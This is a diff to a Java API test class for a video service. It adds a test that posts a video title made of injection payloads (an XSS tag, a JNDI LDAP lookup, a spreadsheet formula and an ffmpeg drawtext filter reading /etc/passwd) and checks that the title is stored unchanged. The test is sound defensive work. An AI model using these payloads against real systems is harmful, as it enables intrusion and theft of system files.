@@ -104,6 +104,16 @@ class VideoResourceTest {
   }
 
   @Test
+  void attack42HostileTitleIsKeptAsItIsAndHarmsNoFilm() {
+    var title = "<img onerror=a> ${jndi:ldap://b} =cmd()|' ',drawtext=textfile=/etc/passwd[v]";
+    var body = new HashMap<>(body(PHOTOS, Map.of()));
+    body.put("title", title);
+    var created = as(ADA).body(body).post("/api/v1/videos").then().statusCode(202);
+
+    awaitStatus(created.extract().path("id"), "READY").body("title", is(title));
+  }
+
+  @Test
   void damagedPhotoFailsTheFilmWithItsReasonAndARetryIsTaken() {
     var id = create(List.of(PHOTOS.get(0), FakePhotoService.DAMAGED), options(Map.of())).id();
 
